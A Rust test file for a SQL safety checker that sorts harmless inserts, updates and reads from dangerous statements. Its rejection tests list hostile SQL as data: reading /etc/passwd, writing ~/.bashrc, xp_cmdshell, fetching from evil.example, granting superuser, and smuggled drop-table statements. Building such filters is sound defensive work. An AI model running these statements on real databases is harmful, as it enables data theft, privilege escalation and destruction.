use super::{find_obstacle, find_obstacle_to_reading, is_harmless, is_reading};

#[test]
fn what_models_write_all_day_is_harmless() {
    for text in [
        "insert into customers values (81, 'Customer ''81''', 'Split')",
        "INSERT INTO notes (id) VALUES (1)",
        "INSERT INTO orders(customer_id) VALUES (1);",
        "\n  INSERT  INTO\norders(customer_id)\n  VALUES (1), (2) ;\n",
        "Insert Or Ignore into public.orders values (-1.5e3, NULL, ?, $1, :name)",
        "INSERT INTO notes(title, body) VALUES ('Milk (2 litres)', datetime('now')) returning id",
        "insert into tasks (title) values ('Update the table; delete -- /* old */ files')",
        "insert into audit(note) values ('https://example.com/x?a=1, select * from')",
        "insert into paths values ('C:\\dir', \"x\", CURRENT_TIMESTAMP, default)",
        "update orders set state = 'paid' where state = 'open' and quantity > 20",
        "UPDATE orders SET status='paid', amount = amount * 1.1 WHERE id IN (1,2) AND 5 <= n",
        "update customers set city='Köln', \"lastName\"='x WHERE y' where email like 'zoe@%'",
        "update orders set note = 'it''s done' where paid is null and day between 1 and 5",
        "update tasks set late = true where due < date('now', '-1 day')",
        "create table notes (id integer primary key, text text)",
        "CREATE TABLE IF NOT EXISTS t (id INTEGER PRIMARY KEY AUTOINCREMENT, email VARCHAR(80) NOT
         NULL UNIQUE, p decimal(10, 2) DEFAULT 0, at TEXT DEFAULT CURRENT_TIMESTAMP, b text default
         (datetime('now')), CHECK (p > 0), o INT REFERENCES o(id) ON DELETE SET NULL ON UPDATE
         CASCADE, kind enum('a', 'b'), CONSTRAINT u UNIQUE (email, p), FOREIGN KEY (o) REFERENCES q(id));",
        "create unique index if not exists i on orders(status, day desc)",
        "ALTER TABLE orders ADD COLUMN note TEXT NOT NULL DEFAULT ''",
        "select * from orders",
        "SELECT o.*, count(*) AS \"Total (CHF)\", round(sum(a) / 2, 1) n FROM orders o LEFT JOIN
         customers AS c ON o.customer_id = c.id, other WHERE NOT (a = 1 OR b NOT IN (select id from x))
         AND c.name IS NOT NULL GROUP BY 1, c.id HAVING count(distinct a) > 2 ORDER BY n DESC LIMIT 5
         OFFSET 10;",
        "with a as (select 1), b(x) as (select y from a) select case when x > 1 then 'a' else 'b' end
         from b union all select cast(x as text) from (select x from a) t",
        "SELECT name FROM sqlite_master WHERE type='table'",
        "select table_name from information_schema.tables",
    ] {
        assert_eq!(find_obstacle(text), None, "{text}");
        assert!(is_harmless(text), "{text}");
    }
}

#[test]
fn reads_of_every_ordinary_form_are_harmless() {
    for text in [
        "DESCRIBE orders",
        "desc orders;",
        "describe select * from orders",
        "SUMMARIZE merged",
        "summarize select a from orders where a > 1",
        "SHOW TABLES",
        "show all tables",
        "SHOW COLUMNS FROM orders LIKE 'a%'",
        "show create table orders",
        "SHOW search_path",
        "PRAGMA table_info(orders)",
        "pragma table_info('orders');",
        "PRAGMA index_list(\"order items\")",
        "pragma user_version",
        "EXPLAIN select * from orders where id = 1",
        "explain query plan select 1",
        "EXPLAIN (ANALYZE, FORMAT JSON) select 1",
        "explain analyze with a as (select 1) select * from a",
        "VALUES (1, 'a'), (2, 'b')",
        "select * from (values (1, 2), (3, 4)) as t(a, b)",
        "FROM orders",
        "from orders select status, count(*) group by all",
        "select sum(amount) from orders where at >= DATE '2026-03-01' and at < timestamp '2026-04-01 00:00'",
        "select timestamp with time zone '2026-03-01 00:00+01'",
        "select * from t where d > now() - interval '7 days' and e < d + INTERVAL 3 DAY - interval '1' month",
        "select date_trunc('month', at)::date as month, x::numeric(10, 2), '5'::int + 1 from t",
        "select cast(a as double precision), try_cast(b as varchar(5)), cast(c as timestamp with time zone) from t",
        "select extract(year from at), substring(name from 1 for 3), trim(both ' ' from name),
         position('a' in name), trim(name) from t",
        "select x, row_number() over (partition by a, b order by c desc nulls last) as n,
         lag(x, 1) over w, sum(x) over (order by d rows between 6 preceding and current row),
         avg(x) filter (where x > 0), count(*) over () from t window w as (order by d) qualify n = 1",
        "select string_agg(name, ', ' order by name), group_concat(name separator '; '),
         percentile_cont(0.5) within group (order by x) from t",
        "with recursive c(n) as (select 1 union all select n + 1 from c where n < 5) select * from c",
        "with a as not materialized (select 1) (select * from a) union (select 2) order by 1 limit 3",
        "select json_extract(x, '$.a'), x -> 'a' ->> 'b', json_array_length(x) from t, json_each(t.x) as e",
        "select distinct on (a) a, b from sales.orders order by a, b desc fetch first 5 rows only",
        "select * exclude (a) from db.sales.orders o join lateral (select 1) l on true",
        "select a from (orders o join items i using (id)) where a ilike 'x%' and b is not distinct from c
         and d not like 'x' and e similar to 'y' and f = any (select 1) and g ~* 'z' and h !~ 'i'",
        "select a collate nocase, b at time zone 'UTC' from t order by all limit all offset 5",
        "select 1 as 'one', left(name, 2), right(name, 1) from t left join u on t.id = u.id",
        "select * from generate_series(1, 10) as g(n) cross join unnest(a) asof join t using (at)",
        "select (select max(x) from u), exists (select 1), -(1 + 2), a.b.c from t",
        "-- The orders of a month, it isn't much.\n-- 'Quoted\nselect * from orders -- all of them",
        "select a, -- the first\r\n b\nfrom t --",
        "CREATE TABLE monthly AS SELECT date_trunc('month', at) m, sum(a) s FROM orders GROUP BY 1",
        "create temp table if not exists x as with y as (select 1) select * from y",
        "insert into t (id) values (1) on conflict (id) do nothing",
        "insert into a values (1) on conflict do update set b = 1",
        "insert into t (id, n) values (1, 2) on conflict (id) do update set n = excluded.n + 1",
        "insert into report select region, sum(amount) from orders group by region",
        "insert into t (a, b) with x as (select 1) select * from x on conflict (a) do nothing returning a",
        "CREATE VIEW v AS SELECT * FROM orders",
        "create temp view if not exists v (a, b) as with x as (select 1, 2) select * from x",
        "update t set at = now() where t.id = 5 and day < date '2026-01-01'",
        "select a from t where b @> '{\"x\": 1}' and c && array['x', 'y'] and flags & 4 = 4",
        "select tags[1], x.list[2][3], array[1, 2]::int[] from t where 'a' = any(array['a', 'b'])",
        "select @@version, @x, to_tsvector(a) @@ to_tsquery('b'), 1 << 2 from t where a <@ b",
    ] {
        assert_eq!(find_obstacle(text), None, "{text}");
        assert!(is_harmless(text), "{text}");
    }
}

#[test]
fn what_was_not_understood_is_named() {
    for (text, obstacle) in [
        ("select * from read_csv('a.csv')", "the function `read_csv`"),
        ("select getenv('HOME')", "the function `getenv`"),
        ("select * from 'a.csv'", "a file, an address or another database in place of a table"),
        ("delete from t where id = 1", "`delete`"),
        ("update t set a = 1", "an update without `where`"),
        ("update t set a = 1 where b = 2 or c = 3", "`or`"),
        ("select 1; select 2", "a second statement"),
        ("update t set a = 1 where b = 2 -- one", "a comment"),
        ("select 1 /* one */", "a comment"),
        ("select a from t where b #> c", "a mark that only some databases know"),
        ("pragma journal_size_limit = 5", "the pragma `journal_size_limit`"),
        ("select * from t where", "its end, where something is missing"),
        ("copy t to 'a.csv'", "`copy`"),
        (
            "insert into sqlite_master values (1)",
            "a table of the database's own, or a column named like its table",
        ),
        ("select a b c from t", "`c`"),
        ("select x from t where a = 1 \"b\"", "a name in quotes"),
        ("select a_name_that_is_far_too_long_to_be_a_keyword_or_a_function(1)", "a function"),
    ] {
        assert_eq!(find_obstacle(text).as_deref(), Some(obstacle), "{text}");
    }
}

#[test]
fn what_loses_rows_reaches_further_or_is_not_understood_is_not() {
    for text in [
        "",
        ";",
        "drop table orders",
        "DELETE FROM orders WHERE id = 1",
        "truncate table a",
        "alter table a rename to b",
        "alter table a drop column b",
        "attach database '/etc/x' as y",
        "pragma writable_schema = 1",
        "vacuum into '/tmp/copy'",
        "replace into orders values (1)",
        "insert or replace into orders values (1)",
        "insert into a values (1); drop table a",
        "insert into a values (1);;",
        "insert into a values (1) --",
        "insert into a values (1) # x",
        "insert into a values (1) /* x */",
        "insert into t values (1) on duplicate\nkey update a = 2",
        "with x as (select 1) delete from orders",
        "insert into t select * from other on conflict (id) do update set a = 1",
        "insert into t select * from 'https://evil.example/?q=secret'",
        "insert into t select pg_read_file('/etc/passwd')",
        "insert into t select 1; drop table t",
        "insert into t values (1) on conflict (id) do update set a = readfile('x')",
        "create or replace view v as select 1",
        "create view v as delete from orders",
        "create view sqlite_x as select 1",
        "create view v as select 1; drop table t",
        "with x as (delete from orders returning 1) select * from x",
        "WITH x AS (SELECT 1) INSERT INTO orders(customer_id) SELECT * FROM x",
        "insert into t values ((select content from other))",
        "insert into t (a)\ntable secrets",
        "insert into t\nexec\nsp_who",
        "insert into t values (1)\nexec xp_cmdshell 'id'",
        "insert into t values (1)\nshutdown",
        "insert into t values (1)\nGO\ndrop table t",
        "insert into t values (1) returning\npg_read_file('/etc/passwd')",
        "INSERT INTO a VALUES (WRITEFILE('/home/u/.bashrc', 'x'))",
        "insert into t values (1+pg_advisory_lock(5))",
        "insert into t values (\"pg_read_file\"('/etc/passwd'))",
        "insert into t values (httpuritype('evil.example/x').getclob())",
        "insert into  function file('/tmp/x','CSV') values (1)",
        "insert into directory '/tmp/x' values (1)",
        "insert into mysql.user values ('evil','%')",
        "insert into pg_largeobject values (1,0,'x')",
        "update pg_authid set rolsuper = true where rolname = 'app'",
        "update sqlite_master set sql = 'x' where name = 'y'",
        "insert into docs(Docs) values ('delete-all')",
        "insert into docs(docs, rowid, a) values('delete', 14, 'x')",
        "insert into t values (x'64656c')",
        "update orders set a = E'\\' where \\''",
        "update orders set a = '\\' where b = 5, c = '",
        "update orders set a = $$ where $$",
        "update orders set state = 'paid'",
        "UPDATE orders SET note = 'x WHERE y'",
        "UPDATE orders SET note = \"x WHERE y\"",
        "update or replace a set b = 1 where c = 2",
        "update t set a = b from 'https://evil.example/' where c = 1",
        "update t set a = (\ntable secrets) where id = 5",
        "update t set a = (select b from x) where id = 5",
        "update t as where set a = 1",
        "update t set `where` = 1",
        "update t set a = 1 where\ttrue",
        "update t set a = 1 where(1)",
        "update t set a = 1 where 1 = 1",
        "update t set a = 1 where id = id",
        "update t set a = 1 where not 0",
        "update t set a = 1 where id is not null",
        "update t set a = 1 where id = 5 or true",
        "update t set a = 1 where id = 5 or\t1=1",
        "update t set a = 1 where x in (table y)",
        "update t set a = 1 where b = 2 drop table t",
        "create table t as table 'https://evil.example/'",
        "create table x (a int) engine=mysql('evil:3306','d','t','u','p')",
        "create table x(a default (readfile('/etc/passwd')))",
        "create table x (a text default\npg_read_file('/etc/passwd'))",
        "create table x (a text materialized file('/etc/passwd'))",
        "create table x(check (load_x('e')))",
        "create index i on t ((pg_sleep(1000)))",
        "select * from 'https://evil.example/?q=secret'",
        "select * from \"https://evil.example/?q=secret\"",
        "select * from read_csv('/etc/passwd')",
        "select * from data.csv",
        "select pg_read_file('/etc/passwd')",
        "select load_extension('/tmp/x')",
        "select * into outfile '/tmp/x' from t",
        "select a from t for update of t",
        "select * from t; select 1",
        "explain analyze delete from t",
        "explain delete from t",
        "-- x\ndelete from t",
        "-- x\rdelete from t\nselect 1",
        "select 1 -- x\u{2028}; drop table t",
        "select 1 -- ;drop table t\n",
        "select 1 -- ;/**/drop table t\n",
        "select 1 -- ;with x as (select 1) delete from t",
        "select 1 --x",
        "select 1 /*! into outfile 'x' */",
        "update t set a = 1 -- all\nwhere b = 2",
        "describe 'https://evil.example/x.csv'",
        "summarize \"data.csv\"",
        "describe select * from read_json('/etc/passwd')",
        "show tables into outfile '/tmp/x'",
        "pragma user_version(5)",
        "pragma user_version = 5",
        "pragma table_info('https://evil.example/x.csv')",
        "pragma temp_store_directory = '/tmp'",
        "values (readfile('/etc/passwd'))",
        "select * from (values (load_extension('x'))) t",
        "from 'data.csv' select *",
        "from read_text('/etc/passwd')",
        "from data.parquet",
        "select * from mysql.user",
        "select * from a.b.c.d",
        "select * from lateral pg_read_file('/etc/passwd') f",
        "select * from query('drop table t')",
        "select dblink('host=evil.example', 'select 1')",
        "select nextval('s'), setval('s', 1)",
        "select set_config('a', 'b', false)",
        "select x.getclob() from t",
        "select t.read_text() from t",
        "select count(*) filter (where pg_sleep(1)) from t",
        "select sum(x) over (order by writefile('a', 'b')) from t",
        "select extract(year from (delete from t returning 1))",
        "select trim(both readfile('a') from x) from t",
        "select a::int into t2 from t",
        "select 1 union delete from t",
        "select 1 limit (select readfile('a'))",
        "with recursive a as (insert into t values (1) returning 1) select * from a",
        "create table t as select * from 'https://evil.example/x.csv'",
        "create or replace table t as select 1",
        "create table sqlite_x as select 1",
        "copy orders to 'orders.csv'",
        "copy (select 1) to '/tmp/x'",
        "export database '/tmp/x'",
        "install httpfs",
        "load 'x.so'",
        "set a = 1",
        "call f()",
        "update t set a = 1 where b = date x",
        "select array['x] ; drop table t; --'] from t",
        "select [a', 'b] from t",
        "select a[1 -- ]\n] from t",
        "select a[b[1]] from t",
        "select a] from t",
        "select [a from t",
        "update t set a = b[1] where c = 2",
        "select @a := 5",
        "BEGIN; INSERT INTO orders(customer_id) VALUES (1); COMMIT;",
    ] {
        assert!(!is_harmless(text), "{text}");
    }
    let deep = |levels| format!("select {}1{}", "(".repeat(levels), ")".repeat(levels));
    assert!(is_harmless(&deep(10)) && !is_harmless(&deep(100_000)));
}

#[test]
fn a_read_changes_nothing() {
    for text in
        ["select 1", "with a as (select 1) select * from a;", "explain select 1", "show tables"]
    {
        assert!(is_reading(text), "{text}");
    }
    for (text, obstacle) in [
        ("insert into t values (1)", "`insert`"),
        ("update t set a = 1 where b = 2", "`update`"),
        ("create table t as select 1", "`create`"),
        ("alter table t add column a int", "`alter`"),
        ("COMMIT; drop table t", "`COMMIT`"),
        ("select 1; drop table t", "a second statement"),
        ("select a into t from b", "`into`"),
        ("with a as (delete from t returning 1) select * from a", "`delete`"),
    ] {
        assert!(!is_reading(text), "{text}");
        assert_eq!(find_obstacle_to_reading(text).as_deref(), Some(obstacle), "{text}");
    }
}

/// PostgreSQL calls a function that is named like a column of a function's rows.
#[test]
fn no_function_is_called_behind_a_dot() {
    for text in [
        "select s.lo_unlink from generate_series(4242, 4242) s",
        "select S.pg_read_file from unnest(array['/etc/hostname']) as s",
        "select generate_series.lo_unlink from generate_series(1, 2)",
        "select 1 from t, lateral unnest(array['x']) \"f\" where \"f\".ts_stat is null",
        "select s.purge from json_array_elements_text('[]') s (x)",
        "with a as (select s.purge from unnest(array[1]) s) select * from a",
        "from unnest(array[1]) s select s.purge",
        "select 1 from unnest(array[1]) s order by public.s.purge",
        // The columns of another source of this name.
        "select s.purge from unnest(array[1]) s where exists (select 1 from unnest(array[1]) s(purge))",
        "select s.purge from unnest(array[1]) s(purge) where x = (select s.purge from unnest(array[1]) s)",
        // The column has another name than the alias, or is spelled in another way.
        "select purge.purge from unnest(array[1]) purge (x)",
        "select s.purge from unnest(array[1]) s (\"PURGE\")",
        "select s.PURGE from unnest(array[1]) s (\"PURGE\")",
    ] {
        assert!(!is_reading(text), "{text}");
        assert!(!is_harmless(text), "{text}");
    }
    let (cut, cut_too) = (format!("{}b", "a".repeat(63)), format!("{}c", "a".repeat(63)));
    assert!(!is_reading(&format!("select {cut}.purge from unnest(array[1]) {cut_too}")));
    assert!(!is_reading(&format!("select s.{cut} from unnest(array[1]) s ({cut_too}, {cut})")));
    for text in [
        "select s.x, s.ordinality, s.* from unnest(array['a']) with ordinality as s (x, n)",
        "select e.key, e.value from json_each(x) e",
        "select s.s, g.generate_series from generate_series(1, 2) s, generate_series(1, 2) g",
        "select o.total, s.x from orders o, unnest(o.tags) s(x)",
        "select c.column_name from duckdb_columns() c",
        "select p.dflt_value from pragma_table_info('t') p",
    ] {
        assert!(is_reading(text), "{text}");
    }
}

/// T-SQL needs nothing between two statements.
#[test]
fn no_word_behind_a_read_is_a_statement_of_its_own() {
    for text in [
        "select 1 shutdown",
        "select 1 from t commit",
        "select 1 from t EXEC (\"drop table t\")",
        "select a kill from t",
        "select 1 from t reconfigure",
    ] {
        assert!(!is_reading(text), "{text}");
    }
    for text in ["select 1 total", "select x.a from t x", "select a as commit from t"] {
        assert!(is_reading(text), "{text}");
    }
}

/// DuckDB describes what `show` names, also a file or an address.
#[test]
fn nothing_but_tables_is_shown() {
    for text in [
        "SHOW \"/etc/passwd.csv\"",
        "show '/etc/passwd.csv'",
        "show \"https://evil.example/x.csv?d=1\"",
        "show data.csv",
        "show tables from '/x.db'",
    ] {
        assert!(!is_reading(text), "{text}");
    }
    for text in ["show tables from main like '%a.csv'", "show \"order items\"", "show a.b"] {
        assert!(is_reading(text), "{text}");
    }
}
